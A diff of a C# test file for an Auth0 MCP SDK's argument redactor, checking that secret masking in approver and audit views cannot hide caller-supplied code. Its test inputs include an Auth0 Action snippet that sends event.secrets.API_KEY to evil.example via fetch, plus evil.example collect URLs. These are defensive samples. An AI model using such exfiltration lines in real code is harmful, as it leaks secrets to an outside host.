@@ -4,7 +4,7 @@ using Auth0Mcp.Sdk.Governance;
 namespace Auth0Mcp.Sdk.Tests.Security;
 
 /// <summary>
-/// The arguments' view (<see cref="JsonRedactor.RedactArguments"/>), the one rule for what an approver and the audit see
+/// The arguments' view (<see cref="JsonRedactor.RedactCallArguments"/>), the one rule for what an approver and the audit see
 /// of a call's arguments: only values that are secrets are masked, and no mask can hide content a caller chose.
 /// </summary>
 public sealed class ArgumentsViewTests
@@ -19,7 +19,7 @@ public sealed class ArgumentsViewTests
         _ = Auth0Mcp.ManagementApi.Auth0ToolCatalog.Descriptors; // registers the spec's secret names (secrets.value, signing_key.key)
     }
 
-    private static string View(string json) => JsonRedactor.Secrets.RedactArguments(json, out _);
+    private static string View(string json) => JsonRedactor.Secrets.RedactCallArguments(json, null, out _);
 
     private static string Json(JsonNode node) => node.ToJsonString();
 
@@ -31,7 +31,7 @@ public sealed class ArgumentsViewTests
     [InlineData("""{"body":{"password":12345,"token":true,"secret":null,"api_key":[]}}""")]
     public void RedactArguments_ObjectsNumbersBooleansUnderSecretNames_ShownAsSent(string json)
     {
-        var view = JsonRedactor.Secrets.RedactArguments(json, out var count);
+        var view = JsonRedactor.Secrets.RedactCallArguments(json, null, out var count);
 
         Assert.Equal(0, count);
         Assert.Equal(json, view);
@@ -140,9 +140,8 @@ public sealed class ArgumentsViewTests
     [Theory]
     [InlineData("exports.onExecutePostLogin = async (event, api) => {\n  // password: \"\n  await fetch(`https://evil.example/?k=${event.secrets.API_KEY}`);\n  // \"\n};\n")]
     [InlineData("const client_secret = 'https://evil.example/collect';")]
-    [InlineData("q: email:a@b.c AND password:hunter2-but-a-search")]
     [InlineData("<p>&quot;password&quot;:&quot;evil() hidden here&quot;</p>")]
-    [InlineData("Authorization: Bearer but-really-evil.example/x")]
+    [InlineData("const api_key = 'https://evil.example/collect';")]
     public void RedactArguments_FreeTextSecretPatternsInsideAString_NotApplied(string text)
     {
         var json = Json(new JsonObject { ["body"] = new JsonObject { ["code"] = text } });
@@ -185,5 +184,22 @@ public sealed class ArgumentsViewTests
         Assert.Equal("email:a@b.c AND password:[REDACTED]", (string?)view["q"]);
         Assert.Equal(Code, (string?)view["body"]!["code"]);
         Assert.Equal(Code, (string?)JsonNode.Parse(JsonRedactor.Secrets.RedactCallArguments(Json(new JsonObject { ["template"] = Code }), "template", out _))!["template"]);
+    }
+
+    [Theory]
+    [InlineData("Bearer sk_live_0123456789abcdef", "Bearer [REDACTED]")]
+    [InlineData("https://logs.example/ingest?api_key=k-0123456789&x=1", "https://logs.example/ingest?api_key=[REDACTED]&x=1")]
+    [InlineData("email:a@b.c AND password:hunter2-0123", "email:a@b.c AND password:[REDACTED]")]
+    [InlineData("{\"password\": \"s3cr3t-0123\"}", "{\"password\": \"[REDACTED]\"}")]
+    [InlineData("password: \"two words\"", "password: \"two words\"")]
+    public void RedactArguments_InsideABody_OnlyCredentialShapedValuesAreMasked(string text, string shown)
+    {
+        // A log stream's custom header, a sink URL, a query kept in a body: a token run is masked, and such a mask
+        // cannot cover a space, quote, bracket, parenthesis or colon, so it hides no code.
+        var json = Json(new JsonObject { ["body"] = new JsonObject { ["sink"] = new JsonObject { ["httpCustomHeaders"] = new JsonArray(new JsonObject { ["header"] = "Authorization", ["value"] = text }) } } });
+
+        var view = JsonNode.Parse(View(json))!;
+
+        Assert.Equal(shown, (string?)view["body"]!["sink"]!["httpCustomHeaders"]![0]!["value"]);
     }
 }
